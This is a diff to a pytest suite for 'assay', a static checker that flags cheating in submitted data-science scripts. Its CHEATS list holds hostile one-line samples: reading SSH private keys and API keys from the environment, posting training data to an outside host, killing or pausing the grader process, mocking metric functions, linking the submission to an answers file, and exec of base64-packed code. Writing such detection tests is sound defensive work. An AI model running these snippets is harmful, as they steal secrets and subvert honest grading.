@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -15,6 +16,7 @@ from assay.grading import (
     check_predictions,
     check_script,
 )
+from assay.grading.checks.script import Script
 from support.gradings import a_task
 
 TASK = a_task(Path("/somewhere"))
@@ -31,16 +33,23 @@ CHEATS: list[tuple[str, str, str]] = [
     ("up by pathlib to any name", "L01", 'from pathlib import Path\nfor n in names: print(open(Path("..") / n))'),
     ("keys of the user", "L01", 'open("/root/.ssh/id_rsa").read()'),
     ("search the disk", "L01", 'import glob\nfor p in glob.glob("/**/answers.csv", recursive=True): print(p)'),
+    ("search the homes", "L01", 'import os\nfor root, _, files in os.walk("/home"): print(files)'),
+    ("search beside and above", "L01", 'import os\nos.listdir("../input")\nos.listdir("..")'),
     ("search above", "L01", 'import os\nfor root, _, files in os.walk(".."): print(files)'),
     ("rglob from the root", "L01", 'from pathlib import Path\nprint(list(Path("/").rglob("*answers*")))'),
     ("answers in the input", "L04", 'import pandas as pd\ny = pd.read_csv("input/test_labels.csv")'),
+    ("answers by open", "L04", 'print(1)\nopen("input/other.csv")\nf = open("input/answers.csv")'),
+    ("answers as an array", "L04", 'import numpy as np\ny = np.genfromtxt("input/test_labels.csv")'),
     ("ground truth", "L04", 'import numpy as np\ny = np.load("./private/ground_truth.npy")'),
     ("send by socket", "L05", 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 80))'),
     ("send by requests", "L05", 'import requests\nrequests.post("https://example.org", data=open("input/train.csv"))'),
+    ("ask a port", "L05", 'import socket\ns = socket.socket()\ns.connect_ex(("10.0.0.1", 80))'),
+    ("send a datagram", "L05", 'import socket\ns = socket.socket()\ns.sendto(b"x", ("10.0.0.1", 80))'),
     ("send by a socket without a name", "L05", 'import socket\nsocket.socket().connect(("10.0.0.1", 80))'),
     ("fetch by urllib", "L05", 'from urllib.request import urlopen as get\nget("http://example.org/answers.csv")'),
     ("trace", "L05", 'import ctypes, os\nlibc = ctypes.CDLL("libc.so.6")\nlibc.ptrace(16, os.getppid(), 0, 0)'),
     ("stop the engine", "L05", "import os, signal\nboss = os.getppid()\nos.kill(boss, signal.SIGSTOP)"),
+    ("kill by the C library", "L05", 'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.kill(1, 9)'),
     ("stop all that the engine started", "L05", "import os\nos.killpg(os.getppid(), 9)"),
     ("look into the engine", "L05", "import os, psutil\nprint(psutil.Process(os.getppid()).open_files())"),
     ("kill everyone", "L05", "import os\nos.kill(-1, 9)"),
@@ -52,6 +61,8 @@ CHEATS: list[tuple[str, str, str]] = [
     ("patched object", "L06", 'import numpy\nfrom unittest import mock\nmock.patch.object(numpy, "isfinite", f)'),
     ("patched by mock", "L06", 'from unittest import mock\nmock.patch("sklearn.metrics.accuracy_score").start()'),
     ("replaced module", "L06", 'import sys, types\nsys.modules["sklearn.metrics"] = types.ModuleType("m")'),
+    ("patched by mock without unittest", "L06", 'import mock\nmock.patch("sklearn.metrics.f1_score").start()'),
+    ("patched object by default", "L06", 'import numpy\nfrom unittest import mock\nmock.patch.object(numpy, "isnan")'),
     ("Assay itself", "L06", "import assay"),
     ("the grader itself", "L06", "from assay.grading.metrics import compute"),
     (
@@ -65,6 +76,17 @@ CHEATS: list[tuple[str, str, str]] = [
         "L03",
         'import pandas as pd\nTARGET = "target"\ntrain = pd.read_csv("input/train.csv")\n'
         "y = train[TARGET]\nmodel.fit(train, y)",
+    ),
+    (
+        "target in a list that has a name",
+        "L03",
+        'columns = ["age", "target"]\nothers.pop()\ncolumns.sort()\n'
+        'scaler.fit_transform(train[columns], train["target"], weights)',
+    ),
+    (
+        "whole frame, beside a narrower one",
+        "L03",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ndel other["target"]\nmodel.fit(train, train["target"])',
     ),
     (
         "whole frame, sorted by another column",
@@ -94,6 +116,18 @@ CHEATS: list[tuple[str, str, str]] = [
         "folds = KFold(5)\nfor a, b in folds.split(train): pass",
     ),
     (
+        "target mean by aggregate before a shuffled split",
+        "L02",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
+        'train["m"] = train.groupby("city")["target"].aggregate("mean")\nStratifiedShuffleSplit(5).split(train)',
+    ),
+    (
+        "target mean before a split by time",
+        "L02",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
+        'train["m"] = train.groupby("city")["target"].mean()\nTimeSeriesSplit(5).split(train)',
+    ),
+    (
         "foreign target encoder with a name",
         "L02",
         "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
@@ -105,15 +139,21 @@ CHEATS: list[tuple[str, str, str]] = [
         "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
         "X2 = ce.TargetEncoder().fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
     ),
-    ("a key by name", "L12", 'import os\nprint(len(os.environ.get("DB_PASSWORD")), os.getenv("OPENAI_API_KEY"))'),
+    ("a key by get", "L12", 'import os\nprint(len(os.environ.get("DB_PASSWORD")))'),
+    ("a key by getenv", "L12", 'import os\nprint(len(os.getenv("OPENAI_API_KEY")))'),
     ("a key", "L12", 'import os\nprint(len(os.environ["OPENAI_API_KEY"]))'),
     ("the whole environment", "L12", "import os\nprint(dict(os.environ))"),
     ("a link as output", "L13", 'import os\nos.symlink("/data/answers.csv", "output/submission.csv")'),
     ("a FIFO as output", "L13", 'import os\nos.mkfifo("./output/submission.csv")'),
+    ("a link by pathlib", "L13", 'from pathlib import Path\nPath("output/submission.csv").symlink_to("x.csv")'),
+    ("a FIFO by name", "L13", 'import os\nos.mkfifo(path="output/submission.csv")'),
     ("a link with three arguments", "L13", 'import os\nos.symlink("/x.csv", "output/submission.csv", False)'),
     ("a link by name", "L13", 'import os\nos.link(src="x.csv", dst="./output/submission.csv")'),
     ("unpacked by an object", "L14", "import zlib\nprint(1)\nexec(zlib.decompressobj().decompress(DATA))"),
     ("unpacked beforehand", "L14", "from zlib import decompress\ncode = decompress(DATA)\nexec(code)"),
+    ("packed expression", "L14", "import base64\nx = eval(base64.b64decode(X))"),
+    ("packed code by builtins", "L14", "import base64, builtins\nbuiltins.exec(base64.b64decode(X))"),
+    ("packed expression by builtins", "L14", "import base64, builtins\nx = builtins.eval(base64.b64decode(X))"),
     ("packed code", "L14", 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
 ]
 
@@ -129,7 +169,7 @@ HONEST: list[tuple[str, str]] = [
         "texts with slashes",
         'import re\nx = re.sub("/home/", "", t)\ny = "and/or"\nz = "http://a/../b"\nfmt = "%d/%m/%Y"',
     ),
-    ("a sentence with dots", 'NOTE = "the folder above is ../../private and nobody reads it"'),
+    ("a sentence with dots", 'NOTE = "../../private is none of ours"\nMORE = "..."\nURL = "../../x://y"'),
     ("docstring", '"""Reads ../../private/answers.csv? No, never /etc/shadow."""\nx = 1'),
     ("message", 'print("looked into ../../private/answers.csv: not there")'),
     ("an error", 'raise ValueError("no ../../private/answers.csv")'),
@@ -149,7 +189,11 @@ HONEST: list[tuple[str, str]] = [
     ("kills its child", "import os, subprocess\np = subprocess.Popen(['sleep', '1'])\nos.kill(p.pid, 9)"),
     ("thread counts", 'import os\nos.environ["OMP_NUM_THREADS"] = "2"\nprint(os.environ.get("HOME"))'),
     ("one variable", 'import os\nprint(os.environ["HOME"], os.environ.get("LANG"), "CI" in os.environ)'),
-    ("keys of tracking", 'import os\nos.getenv("WANDB_API_KEY")\nos.environ.get("HF_API_KEY")\nos.getenv()'),
+    (
+        "keys of tracking",
+        'import os\nos.getenv("WANDB_API_KEY")\nos.environ.get("HF_API_KEY")\nos.getenv("HUGGINGFACE_API_KEY")\n'
+        'os.getenv()\nprint(os.environ.pop("A", ""), os.environ.setdefault("B", "1"))',
+    ),
     ("environment for a child", "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))"),
     ("no tracking", 'import os\nos.environ["WANDB_API_KEY"] = ""\nos.environ.setdefault("HF_TOKEN", "")'),
     ("own metric object", "class M: pass\nmetric = M()\nmetric.f1_score = 3\nmodel.metric = 'auc'"),
@@ -203,7 +247,37 @@ HONEST: list[tuple[str, str]] = [
     (
         "target deleted",
         'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train["target"]\n'
-        "del train['target']\nmodel.fit(train, y)",
+        "del y, train['target']\nmodel.fit(train, y)",
+    ),
+    (
+        "target popped later",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ny = train["target"]\n'
+        'train.pop("target")\nmodel.fit(train, y)',
+    ),
+    ("a table that nobody knows", 'train = made("input/train.csv")\nmodel.fit(train, train["target"])'),
+    (
+        "no split but of texts",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
+        'train["m"] = train.groupby("city")["target"].transform("mean")\nline.split(",")\ntext().split(",")',
+    ),
+    (
+        "names that nobody knows before the split",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ntrain["m"] = train["city"].map(codes)\n'
+        "encoder.fit_transform(X, y)\nparts.first.fit_transform(X, y)\ncross_val_score(m, X, y)",
+    ),
+    ("a child of its own", 'import ctypes\nctypes.CDLL("libc.so.6").malloc_trim(0)\nchild.kill()\nkill(child)'),
+    ("a server of its own", 'import socket\ns = socket.socket()\ns.connect(("localhost", 80))'),
+    (
+        "functions that are only shown",
+        'import sklearn.metrics as m\nfrom unittest import mock\nplot(m, "f1_score", 3)\nplot(m, "f1_score")\n'
+        "mock.patch.object(m)",
+    ),
+    ("data that is packed", "import base64\nprint(base64.b64decode(X))\nexec()"),
+    (
+        "own answers in other forms",
+        'import joblib\nimport numpy as np\nfrom pathlib import Path\nnp.save("a/answers.npy", y)\nnp.load("a/answers.npy")\n'
+        'joblib.dump(y, "a/answers.pkl")\njoblib.load("a/answers.pkl")\nd.write_csv("a/answers.csv")\n'
+        'pl.read_csv("a/answers.csv")\nPath("a/answers.txt").write_text("x")\nopen("a/answers.txt")',
     ),
     (
         "labels of unknown origin",
@@ -219,6 +293,7 @@ HONEST: list[tuple[str, str]] = [
         "target taken off the list by place",
         'cols = ["a", "target"]\ncols.pop()\nmodel.fit(train[cols], train["target"])',
     ),
+    ("texts that swap", 'import os\na = b + str(a)\nb = f"{a}"\nc = os.path.join(c, str(c) + a)\nopen(a + c)'),
     ("names that swap", "last = line\nline = last\nparts = line.split(',')"),
     (
         "labels that swap",
@@ -275,8 +350,13 @@ def test_nothing_is_asked_of_every_process(asked: str) -> None:
     [
         ("L01", 1, 'x = open("/home/me/data.csv")'),
         ("L01", 2, 'import os\nos.listdir("../input")'),
+        ("L01", 1, 'open("../input/train.csv")'),
+        ("L01", 1, 'save("../output")'),
+        ("L01", 1, 'enter("..")'),
+        ("L01", 1, 'open("~/data.csv")'),
         ("L02", 1, "X = StandardScaler().fit_transform(X)\ncross_val_score(m, X, y)"),
         ("L04", 3, 'import pandas as pd\ntest = pd.read_csv("input/test.csv")\nprint(test["target"].mean())'),
+        ("L05", 2, 'print(1)\nget_ipython().run_line_magic("pip", "install x")'),
         ("L05", 2, 'get_ipython().run_line_magic("matplotlib", "inline")\nget_ipython().system("pip install x")'),
         ("L07", 3, "try:\n    f()\nexcept:\n    x = 1"),
         ("L07", 3, "try:\n    f()\nexcept Exception:\n    pass"),
@@ -285,6 +365,7 @@ def test_nothing_is_asked_of_every_process(asked: str) -> None:
         ("L08", 2, "import os\nos._exit(0)"),
         ("L08", 2, "import os\nos.abort()"),
         ("L08", 1, "quit()"),
+        ("L08", 1, "exit()"),
         ("L09", 0, "print(1)"),
     ],
 )
@@ -305,6 +386,10 @@ def test_what_may_be_a_mistake_is_only_told(code: str, line: int, source: str) -
         'try:\n    f()\nexcept ValueError:\n    pass\nopen("output/submission.csv", "w")',
         'import logging\nprint("/home/a")\nlogging.info("/home/b")\nopen("output/submission.csv", "w")\n'
         'raise ValueError("/home/c")',
+        'import re, warnings\nre.sub("/home/", "", t)\nwarnings.warn("/home/b")\nlogger.info("/home/c")\n'
+        'open("output/submission.csv", "w")',
+        'import pandas as pd\ntest = pd.read_csv("test.csv")\nother = made()\nprint(test["age"], other["target"])\n'
+        'open("output/submission.csv", "w")',
         'import pandas as pd\ntest = pd.read_csv("test.csv")\ntest["target"] = model.predict(test)\n'
         'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
         'get_ipython().run_line_magic("matplotlib", "inline")\npool.system("pip install x")\n'
@@ -315,13 +400,52 @@ def test_good_habits_are_not_even_warned_about(source: str) -> None:
     assert check_script(source, TASK) == []
 
 
-def test_the_users_own_files_may_have_any_name() -> None:
-    from dataclasses import replace
+def test_a_path_that_is_put_together_is_told_once() -> None:
+    found = check_script('open("../../a" + "/b.csv")\nopen("../../c" + "/d.csv")', TASK)
+    assert [(f.code, f.line) for f in found] == [("L09", 0), ("L01", 1), ("L01", 2)]
 
+
+@pytest.mark.parametrize(
+    ("expression", "text"),
+    [
+        ("'a' + 'b'", "ab"),
+        ("'a' + unknown", "a{}"),
+        ("unknown + 'a'", "{}a"),
+        ("unknown + other", None),
+        ("Path('a') / unknown", "a/{}"),
+        ("f'a{ONE}b{unknown}c'", "a1b{}c"),
+        ("f'{unknown}'", "{}"),
+        ("os.path.join('a', unknown, 'b')", "a/{}/b"),
+        ("os.path.join(unknown)", None),
+        ("os.path.join()", None),
+        ("os.path.abspath('a')", "a"),
+        ("str(unknown)", None),
+        ("str('a', 'utf-8')", None),
+        ("made('a')", None),
+        ("ONE", "1"),
+        ("TWICE", None),
+        ("1", None),
+        ("A8", "deep"),
+        ("A9", None),
+    ],
+)
+def test_a_text_is_read_as_far_as_it_is_sure(expression: str, text: str | None) -> None:
+    names = "\n".join(f"A{n} = A{n - 1}" for n in range(2, 10))
+    script = Script(
+        f"import os\nfrom pathlib import Path\nONE = '1'\nTWICE = 'a'\nTWICE = 'b'\nA1 = 'deep'\n{names}\n"
+        f"result = {expression}\n"
+    )
+    assert script.text(script.assigned["result"][0]) == text
+
+
+def test_the_users_own_files_may_have_any_name() -> None:
     source = 'import pandas as pd\npd.read_csv("input/test_labels.csv")\nopen("output/submission.csv", "w")'
     task = replace(TASK, data=replace(TASK.data, side=("test_labels.csv",)))
     assert check_script(source, task) == []
     assert [f.code for f in check_script(source, TASK)] == ["L04"]
+    folder = replace(TASK, data=replace(TASK.data, side=("more/test_labels.csv",)))
+    assert check_script(source.replace("input/", "input/more/"), folder) == []
+    assert check_script(source.replace("input/", ""), folder) == []
 
 
 def test_the_entry_comes_first_and_the_profile_knows_the_users_files() -> None:
@@ -339,6 +463,7 @@ def test_the_entry_comes_first_and_the_profile_knows_the_users_files() -> None:
 def test_what_cannot_be_read_for_its_depth_is_rejected() -> None:
     (found,) = check_script("x = " + "-" * 30_000 + "1", TASK)
     assert (found.code, found.severity, found.line) == ("L14", Severity.REJECT, 0)
+    assert found.sentence
 
 
 def test_every_file_of_a_candidate_is_read() -> None:
@@ -352,7 +477,7 @@ def test_every_file_of_a_candidate_is_read() -> None:
         entry="solution.py",
     )
     found = check_candidate(candidate, TASK)
-    assert [(f.code, f.line) for f in found] == [("L05", 2)]
+    assert [(f.code, f.severity, f.line) for f in found] == [("L05", Severity.REJECT, 2)]
     assert found[0].sentence.startswith("helper.py: ")
 
 
@@ -366,7 +491,9 @@ def test_the_blend_script_passes_every_check() -> None:
     [
         (PredictionStats(rows=100, distinct=1, top_share=1.0), ["L10"]),
         (PredictionStats(rows=5, distinct=1, top_share=1.0), []),
-        (PredictionStats(rows=10_000, distinct=2, top_share=0.9999), ["L10"]),
+        (PredictionStats(rows=20, distinct=1, top_share=1.0), ["L10"]),
+        (PredictionStats(rows=1_001, distinct=2, top_share=0.999), ["L10"]),
+        (PredictionStats(rows=900, distinct=2, top_share=0.999), []),
         (PredictionStats(rows=100, distinct=2, top_share=0.97), []),
         (PredictionStats(rows=100, distinct=90, top_share=0.02, same_as="age"), ["L11"]),
         (PredictionStats(rows=20, distinct=20, top_share=0.05, follows_ids=True), ["L11"]),
@@ -380,6 +507,13 @@ def test_odd_predictions_are_told(stats: PredictionStats, codes: list[str]) -> N
     assert all(f.sentence for f in findings)
 
 
+def test_what_is_predicted_over_and_over_is_called_by_its_name(tmp_path: Path) -> None:
+    stats = PredictionStats(rows=100, distinct=1, top_share=1.0)
+    for metric, word in (("accuracy", "label"), ("rmse", "value")):
+        (finding,) = check_predictions(a_task(tmp_path, metric), stats)
+        assert finding.sentence.endswith(f"the same {word}")
+
+
 IDS = {n: n % 2 for n in range(400)}
 
 
@@ -390,7 +524,7 @@ IDS = {n: n % 2 for n in range(400)}
         f"KNOWN = {list(IDS.items())}",
         f"import numpy as np\ny = np.array({[[n, 0.5] for n in range(200)]})",
         f"BITS = '{'01' * 2_000}'",
-        f"ALL = {{'train': {IDS}}}",
+        f"ALL = {{'train': {IDS}, 'more': {IDS}}}",
         f"GRID = {list(range(301))}",
         f"PAIRS = {dict.fromkeys(range(101), 'a')}",
     ],
@@ -398,6 +532,7 @@ IDS = {n: n % 2 for n in range(400)}
 def test_a_table_of_values_is_flagged_and_not_rejected(source: str) -> None:
     found = [f for f in check_script(source, TASK) if f.code == "L15"]
     assert [f.severity for f in found] == [Severity.WARN]
+    assert "values" in found[0].sentence or "characters" in found[0].sentence
 
 
 @pytest.mark.parametrize(
